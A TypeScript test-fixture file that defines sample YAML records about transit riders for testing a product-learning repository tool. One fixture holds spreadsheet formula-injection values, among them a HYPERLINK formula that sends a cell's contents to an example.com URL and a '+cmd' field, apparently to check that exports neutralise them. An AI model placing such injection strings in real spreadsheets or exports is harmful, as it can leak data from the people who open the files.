// Small valid records to build test repositories from.

export const HYPOTHESIS = `kind: hypothesis
title: Riders want real-time departures
statement: We believe that riders check departures on the go
status: open
`;

export const EXPERIMENT = `kind: experiment
title: Panel on departures
tests: [riders-want-realtime]
method: panel
status: planned
`;

export const INSIGHT = `kind: insight
title: Riders plan at home
learned: Most riders plan the trip before they leave home
`;

/** A repository with one valid record of each kind, linked. */
export const VALID_FILES: Record<string, string> = {
  'learning/hypotheses/riders-want-realtime.yaml': HYPOTHESIS,
  'learning/experiments/departures-panel.yaml': EXPERIMENT,
  'learning/insights/riders-plan-at-home.yaml': `${INSIGHT}hypotheses: [riders-want-realtime]\n`,
};

/**
 * Hypotheses whose text a spreadsheet would evaluate as formulas (a link that sends the sheet
 * elsewhere, sums, a command) or turn into other values (leading zeros, a fraction read as a date).
 */
export const SPREADSHEET_HAZARDS: Record<string, string> = {
  'learning/hypotheses/formler-i-texten.yaml': `kind: hypothesis
title: '=HYPERLINK("https://example.com/?d="&B2,"Öppna")'
statement: "=1+1"
status: open
segment: "+cmd"
journey: "-köpa"
metric: "@SUM(A1)"
success: "\\t=2+2 är fyra"
owner: "@elin"
tags: ["-a", "=b", "@c"]
x-note: "'=redan citerad"
`,
  'learning/hypotheses/nollor-och-brak.yaml': `kind: hypothesis
title: Nollor och bråk
statement: Vi tror att åtta av tio resenärer skriver 0012 och 1/2 så
status: open
segment: "0012"
journey: 1/2
tags: ["'til", "ö"]
`,
};
